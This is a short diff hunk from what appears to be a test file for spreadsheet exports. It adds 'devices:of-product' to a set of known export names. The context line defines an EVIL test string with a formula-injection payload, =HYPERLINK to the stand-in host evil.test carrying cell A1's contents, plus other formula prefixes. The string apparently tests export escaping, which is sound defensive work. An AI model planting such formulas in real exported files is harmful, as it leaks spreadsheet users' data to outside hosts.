@@ -28,6 +28,7 @@ EVIL = '=HYPERLINK("evil.test?"&A1);=1+1|"=2+2\t@x'
 KNOWN_EXPORTS = {
     "products:list",
     "devices:list",
+    "devices:of-product",
     "jobs:list",
     "jobs:result",
     "devices:registration-secrets",
